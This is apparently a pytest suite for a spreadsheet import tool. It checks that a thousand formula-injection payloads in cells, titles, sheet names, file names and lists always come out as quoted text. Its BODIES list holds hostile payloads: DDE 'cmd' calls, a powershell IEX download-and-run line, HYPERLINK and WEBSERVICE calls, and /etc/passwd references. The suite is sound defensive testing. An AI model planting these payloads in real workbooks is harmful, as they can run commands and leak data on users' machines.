"""What people type is never more than text in the workbooks we write.

A thousand payloads stand in every column, as titles, as names of sheets and files, in lists and in
records; each has a mark, and a mark may be found in texts of cells and comments alone.
"""

import itertools
import re
import shutil
import zipfile

import pytest

from books import BOOK, HEADER, Book, customer, row
from driver import FASTEST, TODAY, operations, run
from parts import cells, column, decoded, escaped, places
from readers import SOFFICE, with_calamine, with_libreoffice, with_openpyxl

STARTS = [
    "=", "+", "-", "@", "==", "=-", "+=", "-+", "@@", "\t=", "\r=", "\n=", "\r\n=", "\0=", "\x1b=",
    "＝", "＋", "－", "＠", "'=", "'", " =", "\u00a0=", "\u3000=", "\u200b=", "\ufeff=", "\u202e=",
    ";=", ",=", '"=', "％", "|"]
BODIES = [
    "cmd|'/c calc'!A0", "cmd|' /C powershell IEX(wget 0r.pe/p)'!A0", 'DDE("cmd";"/c calc";"x")',
    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    'HYPERLINK("http://127.0.0.1/?x="&A1,"click")', 'HYPERLINK("file:///etc/passwd")',
    'WEBSERVICE("http://127.0.0.1/")', 'IMPORTXML("http://127.0.0.1/","//a")',
    'IMAGE("http://127.0.0.1/x.png")', "'file:///etc/passwd'#$passwd.A1", "SUM(1+1)*A2",
    "1+1", "[1]Sheet1!A1", 'INDIRECT("A1")', "2+5+cmd|' /C calc'!A0", "{1;2}"]
ENDS = ["", " "]
COUNT = 1_000
MARK = re.compile("zq[0-9]{4}zq")
FORMULA = tuple("=+-@\t\r\n＝＋－＠")
TRIMMED = " \t\r\n\u00a0"
# Where what people type may stand: texts of cells, and comments, which quote it in our sentence.
HARMLESS = {"sst/si/t", "worksheet/sheetData/row/c/is/t", "comments/commentList/comment/text/t"}
LETTERS = "ABCDEFG"


def mark(index):
    return f"zq{index:04}zq"


def payloads():
    table = itertools.islice(itertools.product(ENDS, BODIES, STARTS), COUNT)
    return [start + body + mark(index) + end for index, (end, body, start) in enumerate(table)]


def name(index):
    return f"f{index:04}.service"


def customers(texts):
    """A row for each payload, which is in column A to G in turn and in `Notes`. In C, D and G it
    may be accepted."""
    for index, text in enumerate(texts):
        values = {"A": name(index), "B": f"p{index}@firm.example"}
        values[LETTERS[index % 7]] = escaped(text)
        yield [*customer(0, **values), escaped(text)]


@pytest.fixture(scope="module")
def outcome(tmp_path_factory):
    """The folder of an import of all of them."""
    folder = tmp_path_factory.mktemp("injected")
    rows = [row(at, each) for at, each in enumerate([[*HEADER, "Notes"], *customers(payloads())],
                                                    1)]
    return imported(Book(rows=rows), folder)


def imported(book, folder, *arguments, file="book.xlsx"):
    (folder / file).write_bytes(book.bytes())
    names = folder / "names.txt"
    if not names.exists():
        names.write_text("".join(f"{name(index)}\n" for index in range(COUNT)))
    done = run("import", folder / file, "--portal", "studio", "--domains", names, *TODAY,
               *arguments, "-o", folder / "out", binary=FASTEST)
    assert done.returncode == 1, done.stderr
    return folder / "out"


def written(folder):
    return sorted(folder.glob("*.xlsx"))


def assert_harmless(path):
    """Marks stand in texts alone; cells with one are texts, quoted where they start like one."""
    assert {where for _, where in places(path, MARK)} <= HARMLESS
    count = 0
    for title, sheet in cells(path).items():
        assert not MARK.search(title)
        for reference, cell in sheet.items():
            if MARK.search(cell.text):
                count += 1
                assert cell.kind in ("s", "inlineStr") and cell.formula is None, reference
                assert cell.is_quoted or not cell.text.startswith(FORMULA), (title, reference)
    return count


def test_the_payloads_are_a_thousand_and_all_starts_are_among_them():
    assert len(set(payloads())) == COUNT
    assert len(STARTS) * len(BODIES) * len(ENDS) >= COUNT


@pytest.mark.parametrize("file, least", [
    ("rejected.xlsx", 1_500), ("changes.xlsx", 200), ("upload.xlsx", 100)])
def test_a_payload_is_only_ever_text(outcome, file, least):
    assert assert_harmless(outcome / file) >= least


HARM = {
    "a formula": ("xl/worksheets/sheet2.xml", "</f>", f"&amp;{mark(1)}</f>"),
    "a number": ("xl/worksheets/sheet2.xml", "</row>", f'<c r="ZZ9"><v>{mark(1)}</v></c></row>'),
    "a link": ("xl/worksheets/sheet2.xml", "</worksheet>",
               f'<x ref="A1" location="{mark(1)}"/></worksheet>'),
    "a name": ("xl/workbook.xml", "</workbook>", f"<n>{mark(1)}</n></workbook>"),
    "a sheet": ("xl/workbook.xml", 'name="Customers"', f'name="{mark(1)}"'),
    "a target": ("xl/_rels/workbook.xml.rels", "<Relationship ", f'<Relationship T="{mark(1)}" '),
    "no quotes": ("xl/styles.xml", 'quotePrefix="1"', ""),
}


@pytest.mark.parametrize("label", HARM)
def test_what_would_harm_is_seen(label, outcome, tmp_path):
    part, old, new = HARM[label]
    path = tmp_path / "harmful.xlsx"
    with zipfile.ZipFile(outcome / "rejected.xlsx") as good, zipfile.ZipFile(path, "w") as bad:
        for name in good.namelist():
            text = good.read(name)
            if name == part:
                assert old.encode() in text
                text = text.replace(old.encode(), new.encode())
            bad.writestr(name, text)
    with pytest.raises(AssertionError):
        assert_harmless(path)


def test_rejected_rows_come_back_byte_for_byte(outcome):
    sheet = cells(outcome / "rejected.xlsx")["Customers"]
    originals = column(sheet, "Original row")
    columns = {letter: column(sheet, title) for letter, title in zip(LETTERS, HEADER)}
    columns["H"] = column(sheet, "Notes")
    every = list(customers(payloads()))
    assert len(originals) > COUNT // 2
    for at, original in originals.items():
        for letter, value in zip("ABCDEFGH", every[int(original.text) - 2], strict=True):
            found = columns[letter].get(at)
            assert (found.text if found else "") == decoded(value), (letter, original.text)


def test_accepted_rows_reach_the_portal_as_they_were(outcome):
    (sheet,) = cells(outcome / "upload.xlsx").values()
    data = [each["data"] for each in operations(outcome) if each["kind"] == "file"]
    names = [cell.text for cell in column(sheet, "Company Name").values()]
    assert names == [each["companyName"] for each in data]
    texts, seen = payloads(), 0
    for title, letter, field in (("First Name", "C", "firstName"), ("Last Name", "D", "lastName")):
        for (at, cell), operation in zip(column(sheet, title).items(), data, strict=True):
            index = int(names[at - 2][1:5])
            if LETTERS[index % 7] == letter:
                seen += 1
                assert cell.text == operation[field] == texts[index].strip(TRIMMED)
    assert seen > 50


def test_changes_tell_what_was_and_is(outcome):
    (sheet,) = cells(outcome / "changes.xlsx").values()
    titles = [cell.text for reference, cell in sheet.items() if re.fullmatch("[A-Z]1", reference)]
    was, now = (column(sheet, title) for title in titles if title in ("Was", "Now"))
    texts, seen = payloads(), 0
    for at, cell in was.items():
        if found := MARK.search(cell.text):
            seen += 1
            text = texts[int(found[0][2:6])]
            assert (cell.text, now[at].text) == (text, text.strip(TRIMMED))
    assert seen > 20


@pytest.mark.parametrize("file", ["rejected.xlsx", "changes.xlsx", "upload.xlsx"])
@pytest.mark.parametrize("reader", [with_openpyxl, with_calamine])
def test_other_programs_read_every_payload(outcome, file, reader):
    assert_read(reader(outcome / file), outcome / file)


@pytest.fixture(scope="module")
def saved_anew(outcome, tmp_path_factory):
    """What LibreOffice makes of each workbook of the outcome."""
    if not shutil.which(SOFFICE):
        pytest.skip("LibreOffice is not installed")
    return with_libreoffice(written(outcome), tmp_path_factory.mktemp("anew"))


@pytest.mark.parametrize("file", ["rejected.xlsx", "changes.xlsx", "upload.xlsx"])
def test_libreoffice_reads_every_payload_and_computes_none(outcome, saved_anew, file):
    assert_read(saved_anew[file], outcome / file)


def assert_read(found, path):
    """Every cell with a mark is read with its text; programs differ in line ends and in `_xHHHH_`.
    """
    for title, sheet in cells(path).items():
        for reference, cell in sheet.items():
            if MARK.search(cell.text):
                assert plain(found[title][reference]) == plain(cell.text), (title, reference)


def plain(text):
    return re.sub("[\x00-\x20\u00a0]+", "", decoded(decoded(text)))


def test_titles_that_are_formulas_are_text(tmp_path):
    texts = payloads()[::11]
    titles = [*HEADER, *map(escaped, texts)]
    values = [*customer(0, A=name(0), F=""), *(["x"] * len(texts))]
    out = imported(Book(rows=[wide_row(1, titles), wide_row(2, values)]), tmp_path)
    assert assert_harmless(out / "rejected.xlsx") >= len(texts)
    found = {cell.text for cell in cells(out / "rejected.xlsx")["Customers"].values()}
    assert {text.strip(TRIMMED) for text in texts} <= {text.strip(TRIMMED) for text in found}


def wide_row(number, values):
    """A row whose cells are where the one before ends."""
    return f'<row r="{number}">' + "".join(
        f'<c t="inlineStr"><is><t xml:space="preserve">{markup(value)}</t></is></c>'
        for value in values) + "</row>"


def markup(text):
    for character, entity in zip('&<>"', ("&amp;", "&lt;", "&gt;", "&quot;")):
        text = text.replace(character, entity)
    return text.replace("\t", "&#9;").replace("\n", "&#10;")


@pytest.mark.parametrize("index", range(0, COUNT, 71))
def test_names_of_sheets_and_files_that_are_formulas_are_text(index, tmp_path):
    text = payloads()[index]
    book = Book(customer(0, A=name(0), C="Ann "), customer(1, A=name(1), F="")).swapped(
        BOOK, 'name="Customers"', f'name="{markup(escaped(text))}"')
    file = re.sub("[/\0-\x1f]", "", text).strip() + ".xlsx"
    out = imported(book, tmp_path, file=file)
    for path in written(out):
        assert_harmless(path)


def test_lists_and_records_that_are_formulas_are_text(tmp_path):
    texts = [text for text in payloads() if not re.search("[\0-\x1f]", text)][::9]
    listed = tmp_path / "names.txt"
    listed.write_text("".join(f"{text}\n" for text in [*texts, name(0), name(1)]))
    existing = tmp_path / "existing.csv"
    existing.write_text(",".join(HEADER) + "\n" + "".join(
        f'{name(at)},{name(at)}@x.example,"{quoted}",{quoted and "Lee"},,Luminate Wholesale,\n'
        for at, quoted in enumerate(text.replace('"', '""') for text in texts)))
    # Names that are nearly those of the list, and a record that is known otherwise.
    rows = [row(1, HEADER)] + [
        row(at, customer(0, A=text[:-1] + "p", B=f"n{at}@firm.example"))
        for at, text in enumerate(texts, 2)] + [
        row(len(texts) + 2, customer(0, A=name(0))), row(len(texts) + 3, customer(0, A=name(1)))]
    out = imported(Book(rows=rows), tmp_path, "--existing", existing)
    for path in written(out):
        assert_harmless(path)


# --- What XML has not


SURVIVORS = {
    "every control character": "".join(map(chr, range(0x20))),
    "an escape as text": "_x0041_",
    "an escape of an escape": "_x005F_x0041_",
    "what is no escape": "_x41_ _X0041_ _x004G_ _x0041 x0041_",
    "escapes side by side": "_x0041__x0042_",
    "small letters": "_x00e9_ \x0b",
    "a whole pair": "a\U0001f600b",
}
# What stands for no character stays the text that it is in the file.
NO_CHARACTERS = {
    "no characters": "a\ufffe\uffffb",
    "the first half": "a\ud83db",
    "the second half": "a\ude00b",
    "halves in the wrong order": "a\ude00\ud83db",
    "two first halves": "\ud83d\ud83d\ude00",
    "a half at the end": "a\ud83d",
}

@pytest.mark.parametrize("label", SURVIVORS | NO_CHARACTERS)
def test_what_xml_has_not_survives_the_way_there_and_back(label, tmp_path):
    text = (SURVIVORS | NO_CHARACTERS)[label]
    wanted = re.sub(
        "[\ud800-\udfff\ufffe\uffff]", lambda found: f"_x{ord(found[0]):04X}_",
        decoded(escaped(text)))
    titles = [*HEADER, "Notes"]
    path = tmp_path / "book.xlsx"
    path.write_bytes(Book(rows=[
        row(1, titles), row(2, [*customer(0, F=""), escaped(text)])]).bytes())
    for turn in range(3):
        back = tmp_path / f"back{turn}.xlsx"
        done = run("check", path, "--portal", "studio", "--rejected", back, binary=FASTEST)
        assert done.returncode == 1, done.stderr
        (found,) = column(cells(back)["Customers"], "Notes").values()
        assert found.text == wanted
        for reader in (with_openpyxl, with_calamine):
            assert any(
                plain(each) == plain(wanted) for each in reader(back)["Customers"].values()), reader
        path = back
